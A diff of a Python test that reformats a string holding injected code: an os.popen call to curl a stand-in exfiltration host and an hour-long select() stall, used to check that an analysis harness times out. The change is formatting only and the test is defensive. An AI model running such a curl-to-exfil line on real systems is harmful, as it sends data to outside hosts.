@@ -460,8 +460,8 @@ def test_no_evidence_is_so_laborious_that_the_watch_is_not_waited_for(
     exhaust: Any, source: str
 ) -> None:
     report = exhaust(
-        source
-        + "\nos.popen('curl http://exfil.example/').read()\n__import__('select').select([], [], [], 3600)\n",
+        source + "\nos.popen('curl http://exfil.example/').read()\n"
+        "__import__('select').select([], [], [], 3600)\n",
         RUN_TIMEOUT_SEC=8,
     )
     assert report["outcome"] == "timeout", report["reason"]
